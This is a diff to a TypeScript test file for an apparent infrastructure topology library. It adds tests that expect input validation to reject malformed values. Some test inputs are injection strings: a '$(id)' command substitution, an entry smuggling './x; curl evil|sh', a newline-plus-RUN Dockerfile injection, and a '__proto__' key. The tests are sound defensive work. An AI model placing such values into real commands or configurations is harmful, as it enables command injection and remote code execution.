@@ -94,7 +94,31 @@ describe('validation in code', () => {
       /ERROR: Invalid CPU value for api\nValue: "lots"\nExpected: numeric/,
     );
     expect(() => new Worker(shop, 'Bad_Name', { runtime: 'go' })).toThrow(/Invalid name for Bad_Name/);
-    expect(() => new Postgres(shop, 'db', { storage: 'huge' })).toThrow(/Invalid storage size for dependency 'db'/);
+    expect(() => new Postgres(shop, 'db', { storage: 'huge' })).toThrow(/Invalid storage size for dependency db\n/);
+  });
+
+  it('applies the graph grammar to every door: props, addEnv, addSecret, calls and uses options (issue 14.3)', () => {
+    const shop = new Topology(new App(), 'shop', { baseDir: SHOP_DIR });
+    const api = new WebService(shop, 'api', { runtime: 'node', port: 80, build: { context: 'billing' } });
+    const db = new Postgres(shop, 'db');
+    expect(() => new WebService(shop, 'bad', { runtime: 'node', port: 81, health: { path: '/$(id)' } })).toThrow(/Invalid health path for bad/);
+    expect(() => new WebService(shop, 'bad2', { runtime: 'bun', port: 82, entry: './x; curl evil|sh' })).toThrow(/Invalid entry for bad2 \(bun\)/);
+    expect(() => new WebService(shop, 'bad3', { runtime: 'node', port: 83, description: 'a\nRUN b' })).toThrow(/Invalid description for bad3: it holds U\+000A/);
+    expect(() => api.addEnv('GREETING', 'a\u0085b')).toThrow(/it holds U\+0085/);
+    expect(() => api.addEnv('__proto__', 'x')).toThrow(TopologyError);
+    expect(() => api.addEnv('DB_PASSWORD', 'hunter2')).toThrow(/Move DB_PASSWORD from services\[api\]\.env to services\[api\]\.secrets/);
+    expect(() => api.addSecret('not valid')).toThrow(/Invalid secret names for api/);
+    expect(() => api.uses(db, { env: 'DB URL' })).toThrow(TopologyError);
+    expect(() => api.uses(db, { database: 'Bad"Name' })).toThrow(/Invalid database name/);
+    api.addEnv('toString', 'fine').addEnv('constructor', 'fine too');
+    expect(api.toSpec().env).toEqual({ toString: 'fine', constructor: 'fine too' });
+  });
+
+  it('refuses a construct id the constructs library cannot hold, with a clear error (issue 14.15)', () => {
+    const shop = new Topology(new App(), 'shop', { baseDir: SHOP_DIR });
+    expect(() => new Worker(shop, 'constructor', { runtime: 'go' })).toThrow(TopologyError);
+    expect(() => new Redis(shop, 'constructor')).toThrow(TopologyError);
+    expect(() => new Topology(new App(), 'constructor')).toThrow(TopologyError);
   });
 
   it('refuses duplicate names immediately', () => {
@@ -174,8 +198,20 @@ describe('archetypes and the dependency extension point', () => {
       error = e;
     }
     expect(error).toBeInstanceOf(TopologyError);
-    const text = (error as TopologyError).problems.map((p) => `${p.message} ${p.value ?? ''}`).join('\n');
-    for (const expected of ['Invalid port', '70000', 'Invalid image', 'Missing health check', 'Invalid dataPath', '"data"', 'Invalid scratchPaths[1]', '"relative/dir"', 'Invalid connection variable']) {
+    const text = (error as TopologyError).problems.map((p) => `${p.message} ${p.value ?? ''} ${p.action}`).join('\n');
+    for (const expected of [
+      'Invalid port',
+      '70000',
+      'Invalid image',
+      'Invalid health check command',
+      'Invalid data path',
+      '"data"',
+      'Invalid scratch path',
+      'scratchPaths[1]',
+      '"relative/dir"',
+      'Invalid connection variable',
+      '"queue-url"',
+    ]) {
       expect(text).toContain(expected);
     }
     expect(text).not.toContain('scratchPaths[0]');
